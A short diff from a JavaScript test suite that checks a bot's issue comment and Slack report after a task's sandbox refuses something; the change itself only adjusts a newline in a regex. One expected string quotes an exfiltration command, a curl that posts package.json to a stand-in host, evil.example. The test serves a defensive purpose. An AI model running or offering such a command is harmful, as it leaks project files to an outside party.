@@ -60,7 +60,7 @@ describe('a task whose sandbox was refused something', () => {
     );
     const [comment] = botComments(flow.world, { ...splitBill, issue });
     expect(comment?.body).toContain(', while `curl -s -d @package.json https://evil.example/drop;');
-    expect(comment?.body).toMatch(/\n\nDependencies were installed in \d+(?:\.\d)? s\n\n/);
+    expect(comment?.body).toMatch(/\nDependencies were installed in \d+(?:\.\d)? s\n\n/);
   });
 
   it('does so in Slack, with the hosts that were reached, and in its log', async () => {
